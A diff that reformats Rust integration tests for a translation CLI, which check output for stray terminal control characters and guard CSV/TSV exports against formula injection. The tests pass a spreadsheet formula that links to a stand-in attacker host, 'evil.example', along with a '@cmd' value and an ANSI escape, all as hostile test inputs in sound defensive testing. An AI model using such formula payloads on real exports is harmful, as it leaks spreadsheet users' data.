@@ -49,7 +49,11 @@ fn no_command_prints_a_raw_control_character() {
     )
     .unwrap();
     audarma(d).args(["import", "a.txt"]).assert().success();
-    for (pos, text) in [("1", "First one."), ("1", "First sentence here."), ("2", "Second.")] {
+    for (pos, text) in [
+        ("1", "First one."),
+        ("1", "First sentence here."),
+        ("2", "Second."),
+    ] {
         audarma(d)
             .args(["set", "a", pos, "--to", "en", "--text", text])
             .assert()
@@ -86,16 +90,34 @@ fn no_command_prints_a_raw_control_character() {
         (vec!["get", doc, "1", "--to", "en"], ""),
         (vec!["get", doc, "2", "--to", "en"], ""),
         (vec!["history", doc, "1", "--to", "en"], ""),
-        (vec!["suggest", "Бірінші сөйлем мұнда.", "--to", "en", "--explain"], ""),
-        (vec!["suggest", "--to", "en"], "Бірінші сөйлем мұнда\u{1b}[2J.\n"),
+        (
+            vec![
+                "suggest",
+                "Бірінші сөйлем мұнда.",
+                "--to",
+                "en",
+                "--explain",
+            ],
+            "",
+        ),
+        (
+            vec!["suggest", "--to", "en"],
+            "Бірінші сөйлем мұнда\u{1b}[2J.\n",
+        ),
         (vec!["concordance", "сөйлем", "--to", "en"], ""),
         (vec!["analyze", doc, "--to", "en", "--segments"], ""),
         (vec!["progress", "--by", "doc"], ""),
         (vec!["progress", "--by", "translator"], ""),
         (vec!["progress", "--by", "person"], ""),
         (vec!["progress", "--by", "translator", "--csv"], ""),
-        (vec!["review", doc, "--to", "en", "--only", "all"], "s\ns\ns\n"),
-        (vec!["translate", doc, "--to", "en", "--only", "all"], "\n:q\n"),
+        (
+            vec!["review", doc, "--to", "en", "--only", "all"],
+            "s\ns\ns\n",
+        ),
+        (
+            vec!["translate", doc, "--to", "en", "--only", "all"],
+            "\n:q\n",
+        ),
         (vec!["pretranslate", doc, "--to", "en"], ""),
         (vec!["approve", doc, "1-3", "--to", "en"], ""),
         (vec!["export", doc, "--to", "en", "out.txt"], ""),
@@ -132,11 +154,15 @@ fn csv_and_tsv_cells_never_start_a_formula() {
     audarma(d).args(["import", "a.txt"]).assert().success();
     let user = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
     audarma(d)
-        .args(["set", "a", "1", "--to", "en", "--text", "One.", "--user", user])
+        .args([
+            "set", "a", "1", "--to", "en", "--text", "One.", "--user", user,
+        ])
         .assert()
         .success();
     audarma(d)
-        .args(["set", "a", "2", "--to", "en", "--text", "Two.", "--user", "@cmd"])
+        .args([
+            "set", "a", "2", "--to", "en", "--text", "Two.", "--user", "@cmd",
+        ])
         .assert()
         .success();
     let out = audarma(d)
@@ -164,7 +190,9 @@ fn csv_and_tsv_cells_never_start_a_formula() {
     let tsv = std::fs::read_to_string(d.join("r.tsv")).unwrap();
     assert!(tsv.contains("\t'-1 is a number."), "{tsv}");
     audarma(d)
-        .args(["align", "b.txt", "b.en.txt", "--to", "en", "--apply", "r.tsv"])
+        .args([
+            "align", "b.txt", "b.en.txt", "--to", "en", "--apply", "r.tsv",
+        ])
         .assert()
         .success();
     let got = audarma(d)
